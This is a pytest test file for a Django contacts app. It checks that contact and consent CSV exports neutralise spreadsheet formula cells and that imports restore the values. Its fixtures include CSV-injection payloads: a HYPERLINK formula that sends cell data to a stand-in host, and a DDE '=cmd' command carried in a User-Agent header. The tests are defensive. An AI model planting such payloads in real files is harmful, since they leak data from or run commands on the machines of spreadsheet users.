"""CSV exports neutralise cells a spreadsheet would run; the import undoes it (contacts,
consent records). ``--raw`` writes the stored values, and ``import --raw`` reads them back."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from django.test import Client
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from tests.integration.form_helpers import apply_form, post

from goteo.actions.contacts import do_upsert_contact
from goteo.cli import main
from goteo.contacts.models import Contact

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://x.example/?"&A1;"click")'
PEOPLE: list[dict[str, Any]] = [
    {"email": "link@example.com", "first_name": LINK, "last_name": "@SUM(1)"},
    {"email": "sign@example.com", "first_name": "-1", "last_name": "+1", "attributes": {"n": -5}},
    {"email": "tab@example.com", "first_name": "'=quoted", "attributes": {"note": "\t=1"}},
    {"email": "cr@example.com", "first_name": "''@twice", "attributes": {"note": "\r=1 and\rmore"}},
    {"email": "plain@example.com", "first_name": "Ana", "attributes": {"note": "a=b"}},
]  # fmt: skip


def invoke(*args: str) -> str:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def stored() -> dict[str, tuple[str, str, dict[str, Any]]]:
    rows = Contact.objects.values_list("email", "first_name", "last_name", "attributes")
    return {email: (first, last, attributes) for email, first, last, attributes in rows}


def store(people: list[dict[str, Any]]) -> None:
    Contact.objects.all().delete()
    for person in people:
        do_upsert_contact(person)


def round_trip(tmp_path: Path, *flags: str) -> str:
    """Export, erase everyone, import the file back; the exported text."""
    text = invoke("contacts", "export", *flags)
    path = tmp_path / "export.csv"
    path.write_bytes(text.encode())
    Contact.objects.all().delete()
    invoke("contacts", "import", str(path), *flags)
    return text


def test_the_contacts_export_neutralises_formula_cells(tmp_path: Path) -> None:
    store(PEOPLE)
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(invoke("contacts", "export")))}
    assert (rows["link@example.com"]["first_name"], rows["link@example.com"]["last_name"]) == (
        "'" + LINK,
        "'@SUM(1)",
    )
    sign = rows["sign@example.com"]
    assert (sign["first_name"], sign["last_name"], sign["n"]) == ("'-1", "'+1", "'-5")
    assert rows["tab@example.com"]["first_name"] == "''=quoted"
    assert rows["tab@example.com"]["note"] == "'\t=1"
    assert rows["cr@example.com"]["note"] == "'\r=1 and\rmore"
    assert rows["plain@example.com"]["first_name"] == "Ana"
    assert rows["plain@example.com"]["note"] == "a=b"

    raw = {
        r["email"]: r for r in csv.DictReader(io.StringIO(invoke("contacts", "export", "--raw")))
    }
    assert raw["link@example.com"]["first_name"] == LINK and raw["sign@example.com"]["n"] == "-5"


def test_export_then_import_gives_back_every_value(tmp_path: Path) -> None:
    store(PEOPLE)
    before = stored()
    round_trip(tmp_path)
    assert stored() == before | {"sign@example.com": ("-1", "+1", {"n": "-5"})}  # CSV is text


def test_a_raw_export_imported_raw_gives_back_every_value(tmp_path: Path) -> None:
    # The import trims each cell: raw values starting with a tab or CR lose it.
    people = [p for p in PEOPLE if p["email"] not in ("tab@example.com", "cr@example.com")]
    store(people)
    before = stored()
    round_trip(tmp_path, "--raw")
    assert stored() == before | {"sign@example.com": ("-1", "+1", {"n": "-5"})}


HOSTILE_TEXT = st.text(
    alphabet=st.sampled_from(["=", "+", "-", "@", "'", '"', ",", " ", "a", "é", "\t", "\r"]),
    max_size=12,
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=4))
def test_generated_hostile_values_round_trip(values: list[tuple[str, str]]) -> None:
    names = [name.replace("\t", "").replace("\r", "") for name, _ in values]  # one-line fields
    assume(all(n == n.strip() for n in names) and all(v == v.strip() for _, v in values))
    people = [
        {"email": f"p{i}@example.com", "first_name": name, "attributes": {"note": note}}
        for i, (name, (_, note)) in enumerate(zip(names, values, strict=True))
    ]
    store(people)
    # An empty cell is no value: an empty attribute is not imported.
    before = {e: (f, la, {k: x for k, x in a.items() if x}) for e, (f, la, a) in stored().items()}
    with tempfile.TemporaryDirectory() as folder:
        round_trip(Path(folder))
    assert stored() == before


def test_the_consent_export_neutralises_formula_cells(client: Client) -> None:
    apply_form(double_opt_in=False)
    agent = "=cmd|' /C calc'!A0"
    post(client, "/f/signup/submit", {"email": "ana@example.com"}, **{"User-Agent": agent})
    (row,) = csv.DictReader(io.StringIO(invoke("consent", "export")))
    assert row["user_agent"] == "'" + agent and row["email"] == "ana@example.com"
    (row,) = csv.DictReader(io.StringIO(invoke("consent", "export", "--raw")))
    assert row["user_agent"] == agent
